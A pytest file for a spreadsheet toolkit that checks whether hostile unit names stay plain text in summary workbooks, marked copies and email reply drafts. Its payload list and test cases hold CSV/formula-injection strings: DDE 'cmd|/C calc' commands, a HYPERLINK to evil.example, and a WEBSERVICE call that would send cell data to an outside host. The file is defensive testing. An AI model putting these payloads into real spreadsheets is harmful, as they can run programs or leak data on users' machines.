"""Formula injection (issue 6): unit names that look like formulas or DDE payloads travel
from returns, rosters and mails into every file we write — the summary workbook, the marked
copies, the reply drafts and the templates attached to them — and stay text everywhere."""

from __future__ import annotations

import email
import io
import json
from email import policy
from typing import Any

import numpy as np
import openpyxl
import pytest

from tests.fills import consistent_fill
from tests.support import build_template, fill_workbook
from tests.support import run_toolkit as toolkit
from toolkit.forms.registry import load_form

SPEC = load_form("gov-2021")
# each payload carries a marker, so its cells can be found in what we wrote
PAYLOADS = [
    '=HYPERLINK("http://evil.example/","甲1")',
    "+cmd|' /C calc'!A0 甲2",
    "-2+3+cmd|' /C calc'!A0 甲3",
    "@SUM(1+1)*cmd|' /C calc'!A0 甲4",
    "\t=1+1 甲5",
    "\r=1+1 甲6",
    '=DDE("cmd","/C calc","甲7")',
    "=1+1 甲8",
]
MARKERS = [f"甲{i}" for i in range(1, 9)]


def cells_with_markers(data: bytes) -> list[tuple[str, str, str, Any]]:
    """(sheet, cell, openpyxl data type, value) of every cell that holds a marker, in the
    value or in a formula."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(m in cell.value for m in MARKERS):
                    found.append((sheet.title, cell.coordinate, cell.data_type, cell.value))
    return found


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("injection")
    inbox = root / "收件箱"
    inbox.mkdir()
    returned = PAYLOADS[:6]
    for i, unit in enumerate(returned):
        template = root / f"t{i}.xlsx"
        build_template(SPEC, template, unit=unit, year=2025)
        values = consistent_fill(SPEC, np.random.default_rng(i))
        values["applications.new.total"] = 999  # an error: each gets a reply with its copy
        fill_workbook(template, inbox / f"单位{i}.xlsx", values)
    roster = root / "名单.csv"
    lines = "".join(
        f'"{u.replace(chr(34), chr(34) * 2)}",u{i}@example.cn\n' for i, u in enumerate(PAYLOADS)
    )
    roster.write_text("单位名称,邮箱\n" + lines, encoding="utf-8")
    out, drafts = root / "汇总.xlsx", root / "回复草稿"
    done = toolkit(
        "summary",
        str(inbox),
        "-r",
        str(roster),
        "-o",
        str(out),
        "--replies",
        str(drafts),
        "--format",
        "json",
        cwd=root,
    )
    return {"done": done, "out": out, "drafts": drafts, "report": json.loads(done.stdout)}


def test_the_run_matched_every_hostile_unit(written: dict[str, Any]) -> None:
    assert written["done"].returncode == 1, written["done"].stderr
    statuses = sorted(u["status"] for u in written["report"]["units"])
    assert statuses == ["errors"] * 6 + ["missing"] * 2


def test_the_summary_workbook_holds_them_as_text(written: dict[str, Any]) -> None:
    found = cells_with_markers(written["out"].read_bytes())
    assert {m for m in MARKERS if any(m in v for *_, v in found)} == set(MARKERS)
    assert all(kind == "s" for _, _, kind, _ in found), [f for f in found if f[2] != "s"]
    assert {sheet for sheet, *_ in found} >= {"报送情况", "明细", "问题清单"}


def test_marked_copies_and_attached_templates_hold_them_as_text(written: dict[str, Any]) -> None:
    drafts = sorted(written["drafts"].glob("*.eml"))
    assert len(drafts) == 8
    seen = set()
    for path in drafts:
        message = email.message_from_bytes(path.read_bytes(), policy=policy.default)
        [attachment] = list(message.iter_attachments())
        found = cells_with_markers(attachment.get_content())
        assert found, path.name  # the unit's own name is in its copy or template
        assert all(kind == "s" for _, _, kind, _ in found), (path.name, found)
        seen |= {m for m in MARKERS if any(m in v for *_, v in found)}
        body = message.get_body().get_content()
        assert any(m in body + str(message["Subject"]) for m in MARKERS)
    assert seen == set(MARKERS)


@pytest.mark.parametrize(
    ("formula", "kept"),
    [
        ("SUM(B2:B5)", True),
        ("ROUND(SUM(B2:B5),0)+N(C3)", True),
        ("SUBTOTAL(9,B2:B5)", True),
        ('WEBSERVICE("http://x/?"&A1)', False),  # would send the return's figures away
        ('HYPERLINK("http://x","点我")', False),
        ("cmd|'/c calc'!A0", False),  # DDE: runs a program where it is allowed
        ("SUM([other.xlsx]Sheet1!A1)", False),  # another file
        ("", False),
    ],
)
def test_a_rebuilt_copy_writes_back_only_sum_like_formulas(formula: str, kept: bool) -> None:
    """An .ods return's own formulas are written into its marked copy only when they are
    the sums the checker evaluates: anything else from an untrusted file stays a value."""
    from toolkit.check.rebuild import safe_to_write

    assert safe_to_write(formula) is kept
